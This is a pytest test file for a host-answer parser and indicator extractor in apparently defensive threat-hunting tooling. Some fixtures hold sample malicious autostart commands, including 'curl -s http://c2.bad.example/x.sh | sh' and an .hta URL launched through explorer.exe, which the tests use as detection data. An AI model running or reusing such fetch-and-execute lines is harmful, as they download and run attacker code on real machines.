"""Reading what a host said: whole or not at all, and nothing a host sends can do more than be refused."""

import json
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from controller.collectors import answer as answers
from controller.collectors import catalog
from controller.collectors.answer import MAX_ROW_BYTES, MAX_ROWS, MAX_TEXT, observations, read
from controller.errors import HostError, Reason
from controller.indicators.matcher import Matcher
from controller.indicators.normalise import normalise
from controller.indicators.text import values_in
from controller.loading import spec
from controller.model.collector import Answer, CollectorSpec, Column, ColumnType, Row, StoppedBy
from controller.model.indicator import Kind, Observation
from tests.visits import a_list

NONCE = "4f1d0c"
BEGIN = b"#begin tasks 2 4f1d0c -\n"  # as older stores keep answers; tests/unit/test_answer_trailer.py has version 3
END = b"#end 1 unread=0 stopped=no\n"
SPEC = CollectorSpec(
    name="tasks",
    question="?",
    min_rows=1,
    where=("pid", "path"),
    columns=(
        Column(name="pid", type=ColumnType.INTEGER, description=""),
        Column(name="path", type=ColumnType.TEXT, description="", kinds=(Kind.PATH, Kind.NAME)),
        Column(name="sha256", type=ColumnType.TEXT, description="", kinds=(Kind.SHA256,)),
        Column(name="asked", type=ColumnType.TEXTS, description="", kinds=(Kind.DOMAIN,)),
        Column(name="own", type=ColumnType.BOOLEAN, description=""),
    ),
)
ROW = {"pid": 812, "path": "/tmp/thi hành án: {x}", "sha256": "9f86", "asked": ["a.example", "b.example"], "own": False}


def a_line(**but: object) -> bytes:
    return json.dumps(ROW | but, ensure_ascii=False).encode() + b"\n"


def an_answer(*lines: bytes, end: bytes | None = None) -> bytes:
    return BEGIN + b"".join(lines) + (end or b"#end %d unread=0 stopped=no\n" % len(lines))


def reading(stdout: bytes) -> Answer:
    return read(SPEC, stdout, nonce=NONCE, sysroot="-")


def refused(stdout: bytes) -> Reason:
    with pytest.raises(HostError) as caught:
        reading(stdout)
    return caught.value.reason


def test_a_whole_answer_is_read() -> None:
    answer = reading(an_answer(a_line(), a_line(pid=-1), end=b"#end 2 unread=3 stopped=time\n"))

    assert answer.rows[0] == ROW | {"asked": ("a.example", "b.example")}
    assert answer.rows[1]["pid"] == -1
    assert (answer.collector, answer.unread, answer.stopped) == ("tasks", 3, StoppedBy.TIME)


def test_lines_may_end_as_on_windows() -> None:
    assert reading(an_answer(a_line()).replace(b"\n", b"\r\n")).rows == reading(an_answer(a_line())).rows


def test_a_cut_anywhere_never_reads_as_whole() -> None:
    whole = an_answer(a_line(), a_line(pid=2), end=b"#end 2 unread=0 stopped=no\n")

    assert {refused(whole[:cut]) for cut in range(len(whole))} == {Reason.ANSWER_CUT}


@given(st.data())
def test_lost_bytes_in_the_middle_never_read_as_whole(data: st.DataObject) -> None:
    """A line that breaks off and comes back must not splice two halves into a shorter truth."""
    whole = an_answer(*(a_line(pid=number) for number in range(5)))
    line = data.draw(st.integers(1, 5))
    lines = whole.splitlines(keepends=True)

    assert refused(b"".join(lines[:line] + lines[line + 1 :])) is Reason.ANSWER_CUT


@pytest.mark.parametrize(
    "begin",
    [
        b"#begin tasks 2 other -\n",
        b"#begin tasks 1 4f1d0c -\n",
        b"#begin files 2 4f1d0c -\n",
        b"#begin tasks 2 4f1d0c /mnt\n",
        b"welcome\n#begin tasks 2 4f1d0c -\n",
        b"\n",
    ],
)
def test_an_answer_to_another_question_is_refused(begin: bytes) -> None:
    assert refused(begin + a_line() + END) is Reason.ANSWER_GARBLED


@pytest.mark.parametrize(
    "end",
    [
        b"#end 1\n",
        b"#end 1 unread=0 stopped=maybe\n",
        b"#end -1 unread=0 stopped=no\n",
        b"#end 2 unread=0 stopped=no\n",
    ],
)
def test_a_wrong_end_line_is_a_cut(end: bytes) -> None:
    assert refused(an_answer(a_line(), end=end)) is Reason.ANSWER_CUT


def test_more_rows_than_said_is_garbled() -> None:
    assert refused(an_answer(a_line(), a_line(), end=END)) is Reason.ANSWER_GARBLED


def test_words_behind_the_end_are_no_answer() -> None:
    assert refused(an_answer(a_line()) + b"bye\n") is Reason.ANSWER_CUT


def test_less_than_any_living_computer_has_is_empty() -> None:
    assert refused(an_answer()) is Reason.ANSWER_EMPTY


@pytest.mark.parametrize(("word", "by_itself"), [("no", None), ("time", StoppedBy.TIME)])
def test_a_living_computer_that_does_not_show_our_own_session_did_not_show_everything(
    word: str, by_itself: StoppedBy | None
) -> None:
    """A mounted disk has no session of ours."""
    spec = replace(SPEC, min_own=1)
    end = f"#end 1 unread=0 stopped={word}\n".encode()
    whole, lacking = an_answer(a_line(own=True), end=end), an_answer(a_line(), end=end)
    seen = read(spec, lacking, nonce=NONCE, sysroot="-")
    mounted = read(spec, lacking.replace(b" -\n", b" /mnt\n"), nonce=NONCE, sysroot="/mnt")

    assert read(spec, whole, nonce=NONCE, sysroot="-").stopped is by_itself
    assert mounted.stopped is by_itself
    assert seen.stopped is (by_itself or StoppedBy.DENIED)
    assert len(seen.rows) == 1, "what it did show counts"
    assert [item.path for item in seen.unread_items] == ([] if by_itself else ["our own session"])


def test_a_look_that_was_stopped_before_its_first_row_says_why() -> None:
    answer = reading(an_answer(end=b"#end 0 unread=1 stopped=denied\n"))

    assert (answer.rows, answer.stopped) == ((), StoppedBy.DENIED)


@pytest.mark.parametrize(
    "line",
    [
        b"",
        b"null",
        b"[]",
        b"{}",
        b"{",
        a_line(pid="812"),
        a_line(pid=True),
        a_line(pid=1.0),
        a_line(pid=2**63),
        a_line(pid=-(2**63) - 1),
        a_line(pid=float("nan")),
        a_line(own=0),
        a_line(own=None),
        a_line(path=7),
        a_line(path="x" * (MAX_TEXT + 1)),
        a_line(asked="a.example"),
        a_line(asked=[["a.example"]]),
        a_line(asked=[""] * 5000),
        a_line(extra=1),
        a_line().replace(b'"own": false', b'"own": false, "own": true'),
        a_line().replace(b'"own": false', b'"own": false, "\\u006fwn": true'),
        a_line().replace(b', "own": false', b""),
        a_line().replace(b'"9f86"', b'"\\ud800"'),
        a_line().replace(b'"9f86"', b'"' + b"\0" + b'"'),
        a_line().replace(b'["a.example", "b.example"]', b"[" * 100_000),
        a_line().replace(b'"pid": 812', b'"pid": ' + b"9" * 10_000),
        b"#end 0 unread=0 stopped=no",
    ],
    ids=lambda line: ascii(line[-40:]),
)
def test_a_row_that_is_not_as_the_spec_says_is_garbled_and_named(line: bytes) -> None:
    stdout = an_answer(a_line(), line.rstrip(b"\n") + b"\n")

    with pytest.raises(HostError, match="row 2") as caught:
        reading(stdout)

    assert caught.value.reason is Reason.ANSWER_GARBLED
    assert len(caught.value.detail) < 400


def test_what_is_too_large_is_said_to_be() -> None:
    assert refused(an_answer(a_line(path="x" * MAX_ROW_BYTES))) is Reason.ANSWER_HUGE
    assert refused(an_answer(b"{}\n" * (MAX_ROWS + 1))) is Reason.ANSWER_HUGE


def test_a_text_may_be_as_long_as_said() -> None:
    assert reading(an_answer(a_line(path="x" * MAX_TEXT))).rows[0]["path"] == "x" * MAX_TEXT


def test_bytes_that_are_not_utf8_and_nul_are_marked_and_harm_nothing() -> None:
    line = a_line().replace(b"9f86", b'\xff\xc3\\u0000\\\\u0000\\"')

    assert reading(an_answer(line)).rows[0]["sha256"] == '\ufffd\ufffd\ufffd\\u0000"'


TEXTS = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"))
ROWS = st.fixed_dictionaries(
    {
        "pid": st.integers(-(2**63), 2**63 - 1),
        "path": TEXTS,
        "sha256": TEXTS,
        "asked": st.lists(TEXTS).map(tuple),
        "own": st.booleans(),
    }
)


@given(st.lists(ROWS, min_size=1), st.booleans())
def test_every_row_that_can_be_written_is_read_back(rows: list[dict[str, object]], ascii_only: bool) -> None:
    lines = [json.dumps(row, ensure_ascii=ascii_only).encode() + b"\n" for row in rows]

    assert list(reading(an_answer(*lines)).rows) == rows


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(),
    lambda inner: st.lists(inner) | st.dictionaries(st.sampled_from([*ROW, "x"]), inner),
)


@given(
    st.binary()
    | st.builds(lambda middle: an_answer(middle), st.binary())
    | st.builds(lambda row: an_answer(json.dumps(row).encode() + b"\n"), JSON)
    | st.builds(lambda but: an_answer(a_line(**but)), st.dictionaries(st.sampled_from([*ROW, "x"]), JSON))
)
def test_nothing_that_a_host_sends_is_more_than_refused(stdout: bytes) -> None:
    try:
        answer = reading(stdout)
    except HostError as error:
        assert error.reason.value.startswith("answer.")  # noqa: PT017 - either outcome is right
    else:
        assert all(set(row) == set(ROW) for row in answer.rows)


def seen(*rows: dict[str, object]) -> tuple[Observation, ...]:
    return observations(SPEC, reading(an_answer(*(a_line(**row) for row in rows))), values_in)


def test_one_row_meets_a_path_a_name_a_hash_and_domains() -> None:
    assert [(each.kind, each.value) for each in seen({"path": "/tmp/x"})] == [
        (Kind.PATH, "/tmp/x"),
        (Kind.NAME, "x"),
        (Kind.SHA256, "9f86"),
        (Kind.DOMAIN, "a.example"),
        (Kind.DOMAIN, "b.example"),
    ]
    assert {(each.collector, each.where) for each in seen({"path": "/tmp/x"})} == {("tasks", "pid 812 /tmp/x")}


@pytest.mark.parametrize("path", ["/tmp/x.exe", "C:\\Temp\\x.exe", "C:/Temp\\x.exe", "x.exe"])
def test_a_name_is_what_stands_behind_the_last_separator(path: str) -> None:
    assert [each.value for each in seen({"path": path}) if each.kind is Kind.NAME] == ["x.exe"]


def test_the_same_value_of_the_same_row_is_seen_once() -> None:
    assert seen({}, {}) == seen({})


def test_empty_values_are_not_seen() -> None:
    assert seen({"path": "", "sha256": "", "asked": [""]}) == ()
    assert [each.kind for each in seen({"path": "/tmp/", "sha256": "", "asked": []})] == [Kind.PATH]


def test_our_own_processes_are_not_findings() -> None:
    assert seen({"own": True}) == ()


@pytest.mark.parametrize(
    ("direction", "address", "expected"),
    [
        ("outbound", "203.0.113.7", [(Kind.ADDRESS, "203.0.113.7"), (Kind.ENDPOINT, "203.0.113.7:443")]),
        ("outbound", "2001:db8::7", [(Kind.ADDRESS, "2001:db8::7"), (Kind.ENDPOINT, "[2001:db8::7]:443")]),
        ("inbound", "203.0.113.7", [(Kind.VISITOR, "203.0.113.7")]),
        ("listening", "", []),
    ],
)
def test_a_connection_shows_where_it_went_or_who_came(
    direction: str, address: str, expected: list[tuple[Kind, str]]
) -> None:
    connections = spec.read(catalog.spec_text("connections"), "spec.yaml")
    words = dict.fromkeys((column.name for column in connections.columns), "") | {"own": False, "pid": 4}
    row = words | {"direction": direction, "remote_address": address, "local_port": 1, "remote_port": 443}

    found = observations(connections, Answer(collector="connections", rows=(row,)), values_in)

    assert [(each.kind, each.value) for each in found] == expected


K1_AND_K2 = [
    ("autostart", {"command": 'explorer.exe "http://c2.bad.example/a.hta"'}, Kind.URL, "http://c2.bad.example/a.hta"),
    ("autostart", {"command": "nslookup c2.bad.example"}, Kind.DOMAIN, "c2.bad.example"),
    ("autostart", {"command": "curl -s http://c2.bad.example/x.sh | sh"}, Kind.DOMAIN, "c2.bad.example"),
    ("processes", {"command_line": "explorer.exe http://c2.bad.example/a.hta"}, Kind.DOMAIN, "c2.bad.example"),
    ("dns_cache", {"source": "cache", "data": "203.0.113.66"}, Kind.ADDRESS, "203.0.113.66"),
    ("dns_cache", {"source": "cache", "data": "2001:db8::66"}, Kind.ADDRESS, "2001:db8::66"),
    ("dns_cache", {"source": "hosts", "data": "203.0.113.66"}, Kind.ADDRESS, "203.0.113.66"),
    ("autostart", {"command": "%APPDATA%\\KT\\nhac.exe"}, Kind.PATH, "%APPDATA%\\KT\\nhac.exe"),
    (
        "autostart",
        {"command": '"%APPDATA%\\KT\\nhac.exe" -d'},
        Kind.PATH,
        "C:\\Users\\an\\AppData\\Roaming\\KT\\nhac.exe",
    ),
    ("autostart", {"command": 'cmd.exe /c start "" "%APPDATA%\\KT\\nhac.exe"'}, Kind.PATH, "%APPDATA%\\KT\\nhac.exe"),
    ("autostart", {"command": "evil.exe"}, Kind.NAME, "evil.exe"),
    ("autostart", {"command": "cd /opt/kt && ./evil-run -d"}, Kind.PATH, "/opt/kt/evil-run"),
    ("autostart", {"command": "$HOME/.cache/evil2"}, Kind.PATH, "/home/an/.cache/evil2"),
    ("autostart", {"command": "$HOME/.cache/evil2"}, Kind.PATH, "/root/.cache/evil2"),
    ("processes", {"name": "bad-name-x.exe"}, Kind.NAME, "bad-name-x.exe"),
    ("connections", {"name": "bad-name-x.exe"}, Kind.NAME, "bad-name-x.exe"),
]


@pytest.mark.parametrize(("collector", "columns", "kind", "listed"), K1_AND_K2)
def test_what_a_row_names_only_in_a_text_meets_a_list(
    collector: str, columns: dict[str, str], kind: Kind, listed: str
) -> None:
    spec_of = spec.read(catalog.spec_text(collector), "spec.yaml")
    empty: dict[ColumnType, int | str] = {ColumnType.INTEGER: 0, ColumnType.BOOLEAN: False}
    row: Row = {**{column.name: empty.get(column.type, "") for column in spec_of.columns}, **columns}
    answer = Answer(collector=collector, rows=({**row, **dict.fromkeys(columns, "x")}, row))

    found = observations(spec_of, answer, values_in)
    matches = list(Matcher([a_list((kind, normalise(kind, listed)))]).match(found))

    assert [match.value for match in matches] == [normalise(kind, listed)]
    assert {each.row for each in found if each.value == matches[0].seen} == {2}


def test_a_root_that_is_missing_was_not_seen() -> None:
    spec = CollectorSpec(
        name="files",
        question="?",
        columns=(
            Column(name="path", type=ColumnType.TEXT, description="", kinds=(Kind.PATH,)),
            Column(name="type", type=ColumnType.TEXT, description=""),
        ),
    )
    rows: tuple[Row, ...] = ({"path": "/a", "type": "missing"}, {"path": "/b", "type": "folder"})

    assert [each.value for each in answers.observations(spec, Answer(collector="files", rows=rows), values_in)] == [
        "/b"
    ]


LATER = replace(
    SPEC,
    revision=3,
    columns=(*SPEC.columns, Column(name="note", type=ColumnType.TEXT, description="", text=True, since=3)),
    where=("pid", "path", "note"),
)


@pytest.mark.parametrize("sysroot", ["-", "/mnt/ổ cứng", "/mnt/#end 1 x"])
@pytest.mark.parametrize(
    ("version", "end"), [(2, "#end 1 unread=0 stopped=no"), (3, "#end 1 unread=0 stopped=no roots=0 named=0")]
)
def test_a_kept_answer_is_read_again_under_the_nonce_and_the_disk_of_its_begin_line(
    sysroot: str, version: int, end: str
) -> None:
    kept = f"#begin tasks {version} 77ab {sysroot}\n".encode() + a_line() + f"{end}\n".encode()

    assert answers.reread(SPEC, kept, revision=1).rows == (ROW | {"asked": ("a.example", "b.example")},)


def test_an_answer_of_an_older_revision_is_read_without_the_columns_that_came_later() -> None:
    old, new = an_answer(a_line()), an_answer(a_line(note="curl http://bad.example/x"))

    assert "note" not in answers.reread(LATER, old, revision=2).rows[0]
    assert answers.reread(LATER, new, revision=3).rows[0]["note"] == "curl http://bad.example/x"
    seen_then = observations(LATER, answers.reread(LATER, old, revision=2), values_in)
    seen_now = observations(LATER, answers.reread(LATER, new, revision=3), values_in)
    assert {each.where for each in seen_then} == {"pid 812 /tmp/thi hành án: {x}"}
    assert {each.value for each in seen_now} - {each.value for each in seen_then} == {"http://bad.example/x"}


@pytest.mark.parametrize(
    ("kept", "revision"),
    [
        (b"", 1),
        (b"#begin files 2 4f1d0c -\n#end 0 unread=0 stopped=no\n", 1),
        (an_answer(a_line()), 3),
        (an_answer(a_line(note="")), 2),
        (an_answer(a_line())[:-9], 1),
        (b"#begin tasks 9 4f1d0c -\n" + a_line() + END, 1),
    ],
)
def test_a_kept_answer_that_is_not_whole_or_of_another_form_is_refused(kept: bytes, revision: int) -> None:
    with pytest.raises(HostError, match=r"answer\."):
        answers.reread(LATER, kept, revision=revision)
